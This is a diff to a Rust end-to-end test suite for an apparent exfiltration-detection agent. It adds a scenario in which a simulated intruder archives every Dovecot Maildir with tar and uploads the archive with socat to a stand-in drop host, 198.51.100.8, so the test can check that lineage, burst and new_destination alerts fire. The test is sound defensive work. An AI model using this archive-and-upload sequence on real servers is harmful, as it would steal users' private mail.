@@ -15,10 +15,11 @@ use std::{
 };
 
 use exfil_tests::{
-    Agent, NetNs, POLL, agent_bin,
+    Agent, NetNs, POLL, Proc, ServiceCgroup, agent_bin,
     maildir::{self, MailUser},
     require_root,
     servers::dovecot::{self, Dovecot, IMAP_PORT, UNIT},
+    socket_addr, traffic,
 };
 use serde::Deserialize;
 
@@ -299,10 +300,9 @@ fn mailbox_theft_over_imap_is_a_burst_and_new_destination_naming_dovecot_exact_t
         )
     );
 
-    // And what it read for it: each of the victim's message files once, whole, and each
-    // whose path came is mail_store. (By inode: a path is lost when more new files are read
-    // host-wide between two polls than the kernel's path ring holds, FILE_PATHS in
-    // sensor-ebpf/src/maps.rs, and this imap reads 1,220 in half a second.)
+    // And what it read for it: each of the victim's message files once, whole, with its
+    // path and class: the 1,220 new files imap reads in half a second are more than the
+    // kernel's path ring held in one poll, which the agent now drains as it fills.
     let messages_read = victim_messages(&dovecot.mail_root().join(victim.name));
     let reads: Vec<_> = agent
         .files()
@@ -318,14 +318,11 @@ fn mailbox_theft_over_imap_is_a_burst_and_new_destination_naming_dovecot_exact_t
         (messages, victim.bytes)
     );
     for row in &reads {
-        if let Some(path) = &row.path {
-            assert_eq!(
-                (Some(path.as_str()), row.class.as_str()),
-                (messages_read[&row.inode].to_str(), "mail_store")
-            );
-        }
+        assert_eq!(
+            (row.path.as_deref(), row.class.as_str()),
+            (messages_read[&row.inode].to_str(), "mail_store")
+        );
     }
-    let reads_without_path = reads.iter().filter(|f| f.path.is_none()).count();
 
     // Nothing else names Dovecot: its profile reads mail_store for its work, so serving
     // mail is no lineage.
@@ -380,8 +377,7 @@ fn mailbox_theft_over_imap_is_a_burst_and_new_destination_naming_dovecot_exact_t
     eprintln!(
         "mail store: {} messages, {} bytes, generated in {generated_in:?}; the theft: {} \
          messages, {} bytes received ({} sent) in {fetched_in:?}; imap out={} in={} \
-         (imap-login sent {}); {reads_without_path} of its message reads without a path; \
-         burst seen {burst_seen_in:?} and new_destination {new_seen_in:?} after the attack's \
+         (imap-login sent {}); burst seen {burst_seen_in:?} and new_destination {new_seen_in:?} after the attack's \
          start; test {:?}",
         store.messages(),
         store.bytes(),
@@ -393,4 +389,176 @@ fn mailbox_theft_over_imap_is_a_burst_and_new_destination_naming_dovecot_exact_t
         fetched.before_login,
         test_start.elapsed()
     );
+}
+
+/// Scenario 2: the mail store copied by an intruder's shell. A process outside any mail
+/// service (`exfil-e2e-shell.service`) archives every Maildir with `tar` (3,100 new files in
+/// a few seconds); another, in another service (`exfil-e2e-upload.service`), uploads the
+/// archive with `socat` to 198.51.100.8. Neither is Dovecot, which serves nothing here. The
+/// agent follows the mail from tar's reads to the archive tar wrote, to socat's reads of it,
+/// to socat's send: one `lineage` alert naming `mail_store`, the uploader and the exact bytes
+/// the receiving end counted, within 30 s of the attack's start.
+#[test]
+fn mail_store_archived_by_a_shell_and_uploaded_is_lineage_naming_mail_store() {
+    require_root();
+    const EXFIL: &str = "198.51.100.8";
+    const UPLOADER: &str = "exfil-e2e-upload.service";
+    let ns = NetNs::outside().expect("namespace");
+    ns.add_host(EXFIL).expect("the intruder's drop host");
+    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
+        .join(format!("dovecot-tar-{}", std::process::id()));
+    let dovecot = Dovecot::start(&dir, ns.host_ip, &USERS).expect("dovecot");
+    let store = maildir::generate(
+        &dovecot.mail_root(),
+        &USERS,
+        dovecot::mail_owner().expect("the mail user"),
+        SEED,
+    )
+    .expect("the mail store");
+    assert_eq!(store.bytes(), STORE_BYTES);
+    let archive = dir.join("loot.tar");
+
+    let mut agent = Agent::start_with(&config(&dovecot.mail_root())).expect("agent");
+
+    // The intruder's shell archives every Maildir ...
+    let attack = Instant::now();
+    let shell = ServiceCgroup::create("exfil-e2e-shell.service").expect("cgroup");
+    let mut tar = Command::new("tar");
+    tar.arg("cf")
+        .arg(&archive)
+        .arg("-C")
+        .arg(dovecot.mail_root())
+        .arg(".");
+    shell.place(&mut tar).expect("place tar");
+    let status = tar.status().expect("tar runs");
+    assert!(status.success(), "tar: {status}");
+    let tar_took = attack.elapsed();
+    let size = std::fs::metadata(&archive).expect("archive").len();
+    assert!(size > STORE_BYTES, "{size}");
+    // ... and another program, in another service, uploads the archive.
+    let uploader = ServiceCgroup::create(UPLOADER).expect("cgroup");
+    let (mut sink, port) = traffic!().sink(&ns, "tcp", EXFIL).expect("sink");
+    let mut socat = Command::new("socat");
+    socat
+        .arg("-u")
+        .arg(format!("OPEN:{}", archive.display()))
+        .arg(format!("TCP:{}", socket_addr(EXFIL, port)));
+    uploader.place(&mut socat).expect("place socat");
+    let upload = Proc::spawn(socat, "socat").expect("socat");
+    let socat_pid = upload.pid();
+    upload.finish().expect("socat uploads the archive");
+    let received = sink.expect_line::<u64>("received").expect("received");
+    assert_eq!(received, size);
+    let uploaded_in = attack.elapsed();
+
+    let lineage = wait_for(
+        &agent,
+        Duration::from_secs(30).saturating_sub(attack.elapsed()),
+        |a| a.kind == "lineage",
+    )
+    .expect("a lineage alert within 30 s of the attack's start");
+    let seen_in = attack.elapsed();
+    assert!(seen_in <= Duration::from_secs(30), "{seen_in:?}");
+    // Once the upload's last interval is in, the alert holds every byte the sink received.
+    let lineage = wait_for(&agent, Duration::from_secs(25), |a| {
+        a.id == lineage.id && a.bytes >= received
+    })
+    .expect("the alert grows to the bytes received");
+    assert_eq!(
+        (
+            lineage.service.as_str(),
+            lineage.destination.as_str(),
+            lineage.port,
+            lineage.pid,
+            lineage.comm.as_str(),
+            lineage.bytes,
+            lineage.class.as_deref(),
+        ),
+        (
+            UPLOADER,
+            EXFIL,
+            port,
+            socat_pid,
+            "socat",
+            received,
+            Some("mail_store")
+        ),
+        "{lineage:?}"
+    );
+    // One lineage alert; the same upload is also a `burst` (150 MiB, over
+    // `detect.burst.bytes`) and, the learning period being over, a `new_destination`, both
+    // naming the uploader; nothing names tar, which sent nothing.
+    std::thread::sleep(POLL * 2);
+    let mut all: Vec<_> = alerts(&agent)
+        .into_iter()
+        .map(|a| (a.kind, a.service, a.destination))
+        .collect();
+    all.sort();
+    let upload = |kind: &str| (kind.to_owned(), UPLOADER.to_owned(), EXFIL.to_owned());
+    assert_eq!(
+        all,
+        [
+            upload("burst"),
+            upload("lineage"),
+            upload("new_destination")
+        ]
+    );
+    // Every message tar read counted as mail_store, with no path dropped.
+    let drops = agent
+        .metric("exfil_sensor_kernel_drops_total{map=\"file_paths\"}")
+        .expect("drops");
+    let tar_mail: u64 = agent
+        .files()
+        .expect("files")
+        .into_iter()
+        .filter(|f| f.comm == "tar" && f.class == "mail_store")
+        .map(|f| f.bytes_read)
+        .sum();
+    assert_eq!((drops, tar_mail), (0, store.bytes()));
+
+    // The evidence: the journal verifies, and `report` names the uploader, the drop host and
+    // the bytes it received.
+    let status = agent.stop().expect("SIGTERM");
+    assert!(status.success(), "{status}");
+    let journal = agent.journal_dir().to_str().expect("utf-8").to_owned();
+    let (code, verdict, _) = run(&["journal", "verify", &journal]);
+    assert_eq!(code, 0, "{verdict}");
+    let (code, stdout, stderr) = run(&[
+        "report",
+        &journal,
+        "--service",
+        UPLOADER,
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 0, "report: {stderr}");
+    let report: serde_json::Value = serde_json::from_str(&stdout).expect("report JSON");
+    let destinations: Vec<_> = report["destinations"]
+        .as_array()
+        .expect("destinations")
+        .iter()
+        .map(|d| {
+            (
+                d["destination"].as_str().unwrap_or_default().to_owned(),
+                d["bytes"].as_u64(),
+                d["services"].clone(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        destinations,
+        [(
+            EXFIL.to_owned(),
+            Some(received),
+            serde_json::json!([UPLOADER])
+        )]
+    );
+    eprintln!(
+        "mail store: {} messages, {} bytes; tar took {tar_took:?}, the upload of {size} \
+         bytes ended {uploaded_in:?} after the attack's start, lineage seen after {seen_in:?}",
+        store.messages(),
+        store.bytes(),
+    );
+    drop(dovecot);
+    let _ = std::fs::remove_dir_all(&dir);
 }
